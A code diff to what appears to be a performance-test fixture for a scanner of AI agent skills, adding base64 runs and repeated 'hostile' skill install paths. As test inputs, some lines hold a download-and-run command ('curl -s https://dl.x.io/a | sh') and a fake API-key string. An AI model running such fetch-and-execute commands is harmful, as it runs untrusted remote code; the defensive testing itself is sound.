@@ -78,6 +78,9 @@ export const GROWTH = {
   'run-letter': (b) => skill(`${fill('a', b)}\n`),
   'run-digit': (b) => skill(`${fill('7', b)}x\n`),
   'run-base64': (b) => skill(`${fill('QUJD', b)}!\n`),
+  // Base64 runs cut by padding, and prose of base64-alphabet words (security/encoded-payload's run scan, issue 30).
+  'base64-padded': (b) => skill(`${fill('QUJDRA==', b)}\n`),
+  'base64-words': (b) => skill(`${fill('ab+c/d_e-f ', b)}\n`),
   'run-zero-width': (b) => skill(`x${fill('\u200b', b)}a\n`),
   'run-blank-lines': (b) => skill(`${fill('\n', b)}x\n`),
   'run-dash-words': (b) => skill(`${fill('a-', b)}\n`),
@@ -113,6 +116,11 @@ export const GROWTH = {
   'pipe-unclosed': (b) => skill(`Run ${fill('( curl -s https://dl.x.io/a | sh ', b)}\n`),
   'pipe-args': (b) => skill(`Run echo ${fill('curl a | sh ', b)}\n`),
   'shell-lines': (b) => skill(`\`\`\`bash\n${fill('echo "$X" | grep -e a\n', b)}\`\`\`\n`),
+  // The skill's own name as a path segment (body/install-path's line pre-filter, issue 30): glued on
+  // one line, one a line with no install root, and install paths on every line.
+  'install-name-glued': (b) => skill(`${fill('~/.claude/skills/hostile/', b)}\n`),
+  'install-name-lines': (b) => skill(`${fill('see a/hostile/b\n', b)}\n`),
+  'install-paths': (b) => skill(`${fill('Run ~/.claude/skills/hostile/scripts/a.sh and .agents/skills/hostile/b.py\n', b)}\n`),
   'secret-like': (b) => skill(`${fill('sk-abcdefghijklmnopqrstuvwxyz012345 ', b)}\n`),
   // Findings under as many suppressions (each finding used to walk every directive), and host
   // blocks opened inside as many generated regions, then closed (each close searched the stack).
